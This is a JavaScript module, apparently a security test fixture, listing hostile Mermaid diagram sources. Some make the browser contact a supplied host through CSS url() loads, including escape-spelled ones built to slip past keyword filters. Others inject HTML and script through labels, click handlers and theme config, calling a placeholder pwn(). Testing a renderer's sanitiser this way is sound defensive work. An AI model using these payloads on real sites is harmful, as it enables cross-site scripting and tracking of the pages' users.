// Mermaid sources that try to make the browser contact `host`, run `pwn()`, or change the page's appearance.

/** CSS that loads a URL, spelled so that no keyword filter finds it. */
const hidden = (host, path) => `u\\72l(https:\\2f\\2f ${host}/${path})`;
const css = (host, path) => `* { background: url(https://${host}/${path}) }`;
const hiddenInJson = (host, path) => hidden(host, path).replaceAll("\\", "\\\\");

/** Ways in which diagrams rendered in the page itself made the browser contact another server. */
export const requestRoutes = (host) => [
  `stateDiagram-v2\n[*] --> A\nclassDef foo fill:${hidden(host, "state?memory=4711")}\nclass A foo`,
  `%%%%{x}%%{init: {"themeCSS": "* { background: ${hiddenInJson(host, "nested")} }"}}%%\ngraph TD; A-->B`,
  `---\ntitle: a\n---\n---\nconfig:\n  themeCSS: "* { background: ${hiddenInJson(host, "front")} }"\n---\ngraph TD; A-->B`,
  `---\ntitle: a\n---\n---\nconfig:\n  htmlLabels: true\n---\ngraph TD; A["<image src='https:\\\\${host}\\label'>hi"]`,
  `%%%%{x}%%{init: {"htmlLabels": true}}%%\ngraph TD; A["<image src='https:\\\\${host}\\again'>hi"]`,
];

/** Other plausible attacks. */
export const otherRoutes = (host) => [
  `graph TD; A[<img src=x onerror=pwn()>] --> B`,
  `graph TD; A["<img src='https://${host}/i.png'>"] --> B`,
  `graph TD; A["#lt;img src=x onerror=pwn()#gt;"] --> B`,
  `graph TD; A["<svg><style>@import 'https://${host}/s.css'</style></svg>"] --> B`,
  `graph TD; A["<link rel=preconnect href='https://${host}/'>"] --> B["<link rel=dns-prefetch href='//${host}/'>"]`,
  `graph TD; A["<meta http-equiv=refresh content='0;url=https://${host}/refresh'>"] --> B`,
  `graph TD; A["<iframe src='https://${host}/frame'></iframe><object data='https://${host}/object'></object>"]`,
  `graph TD; A["<video src='https://${host}/v' poster='https://${host}/p'></video>"] --> B`,
  `graph TD; A["<form action='https://${host}/form'><input autofocus onfocus=pwn()></form>"] --> B`,
  `graph TD\n  A --> B\n  click A call pwn()\n  click B "javascript:pwn()"`,
  `graph TD\n  A --> B\n  click A href "javascript:pwn()" "t"`,
  `graph TD\n  A --> B\n  click A href "https://${host}/click" _self`,
  `graph TD\n  A@{ img: "https://${host}/i.png", label: "x" }`,
  `graph TD\n  A@{ shape: image, img : '//${host}/i.png' }`,
  `graph TD\n  A@{ "im\\u0067": "//${host}/i.png", label: "x" }`,
  `graph TD\n  A@{ icon: "fa:bell", form: "square" }`,
  `graph TD\n  A-->B\n  style A fill:url(//${host}/f),stroke:red`,
  `graph TD\n  A-->B\n  style A fill:${hidden(host, "style")}`,
  `graph TD\n  A:::x-->B\n  classDef x background:${hidden(host, "class")}`,
  `graph TD\n  A-->B\n  linkStyle 0 stroke:${hidden(host, "link")},marker-end:url(https://${host}/m)`,
  `graph TD\n  A["$$\\includegraphics{https://${host}/maths.png}$$"] --> B["$$\\href{javascript:pwn()}{x}$$"]`,
  `%%{init: {"securityLevel": "loose", "htmlLabels": true}}%%\ngraph TD; A["<img src=x onerror=pwn()>"]`,
  `%%{init: {"themeCSS": "${css(host, "theme")}"}}%%\ngraph TD; A-->B`,
  `%%{init: {"fontFamily": "x}${css(host, "font")}"}}%%\ngraph TD; A-->B`,
  `%%{init: {"themeVariables": {"primaryColor": "red;background:url(https://${host}/v)"}}}%%\ngraph TD; A-->B`,
  `%%{wrap}%%%%{init: {"flowchart": {"htmlLabels": true}}}%%\ngraph TD; A["<image href='https://${host}/w'>"]`,
  `---\nconfig:\n  securityLevel: loose\n  themeCSS: "@import '//${host}/s.css'"\n---\ngraph TD; A-->B`,
  `sequenceDiagram\n  A->>B: <script>pwn()</script>\n  link A: x @ javascript:pwn()`,
  `sequenceDiagram\n  box ${hidden(host, "box")} t\n  participant A\n  end\n  rect ${hidden(host, "rect")}\n  A->>A: x\n  end`,
  `classDiagram\n  class A\n  link A "javascript:pwn()" "x"\n  callback A "pwn"\n  style A fill:${hidden(host, "c")}`,
  `erDiagram\n  A ||--o{ B : "<image href='https://${host}/er'>"\n  classDef x fill:${hidden(host, "er")}\n  class A x`,
  `gantt\n  title <img src=x onerror=pwn()>\n  section s\n  t :a1, 2024-01-01, 30d\n  click a1 href "javascript:pwn()"`,
  `pie title <svg onload=pwn()>\n "<img src=x onerror=pwn()>" : 3`,
  `C4Context\n  Person(a, "x", "y", $sprite="//${host}/s.png")\n  UpdateElementStyle(a, $bgColor="${hidden(host, "c4")}")`,
  `mindmap\n  root((<img src=x onerror=pwn()>))\n    ::icon(fa fa-book)`,
  `journey\n  title x\n  section <script>pwn()</script>\n    a: 5: me`,
  `quadrantChart\n  A: [0.3, 0.6] color: ${hidden(host, "quadrant")}`,
  `block-beta\n  a["<image href='https://${host}/b'>"]\n  style a fill:${hidden(host, "block")}`,
  `not a diagram <img src=x onerror=pwn()>`,
];

export const hostileDiagrams = (host) => [...requestRoutes(host), ...otherRoutes(host)];
